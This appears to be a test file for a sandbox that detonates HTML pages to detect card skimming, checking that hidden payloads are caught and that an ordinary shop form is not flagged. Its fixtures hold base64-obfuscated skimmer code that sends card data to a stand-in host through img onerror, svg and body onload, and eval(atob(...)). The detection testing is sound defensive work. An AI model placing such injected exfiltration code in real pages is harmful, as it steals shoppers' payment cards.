// Guards that the laboratory loads HTML as a page: handlers run on their elements, and what stands in it is not taken for what code made.
import { runnablePage } from '@tillwatch/core/detection'
import { describe, expect, it } from 'vitest'
import { detonate } from '#detonate/index.ts'
import { all, browser, shareBrowser, withCard } from './run.ts'

shareBrowser()

function runPage(html: string) {
  const page = runnablePage(html)
  if (!page) throw new Error('The page has no code.')
  return detonate(browser, { text: '', url: 'https://cdn.vendor.example/saved.html', page }, { timeoutMs: 60_000 })
}

const hidden = btoa(withCard(`new Image().src = 'https://seen-often.example/i?' + card`))

describe('a page', () => {
  it.each([
    ['a picture that does not come', `<img src="x" data-w="${hidden}" onerror="eval(atob(this.dataset.w))">`],
    ['a drawing', `<svg data-w="${hidden}" onload="eval(atob(this.dataset.w))"></svg>`],
    ['its body', `<!doctype html><html><body title="${hidden}" onload="eval(atob(document.body.title))"><p>Thanks</p></body></html>`],
    ['a script beside a broken one', `<!doctype html><p>Shop</p><script>var a = ;</script><script>eval(atob('${hidden}'))</script>`],
  ])('is seen to send the card from %s', async (_name, html) => {
    const told = await runPage(html)
    expect(all(told, 'sends')).toContainEqual(expect.objectContaining({ what: 'card', to: 'seen-often.example' }))
  })

  it('is not blamed for its own form and pictures', async () => {
    const told = await runPage(
      `<form><input name="cardno" autocomplete="cc-number"><input name="cvc" autocomplete="cc-csc"></form><img src="https://pictures.vendor.example/a.png"><script>document.title = 'Shop'</script>`,
    )
    expect(told).toMatchObject({ outcome: 'ran' })
    expect([...all(told, 'makes-form'), ...all(told, 'contacts')]).toEqual([])
  })
})
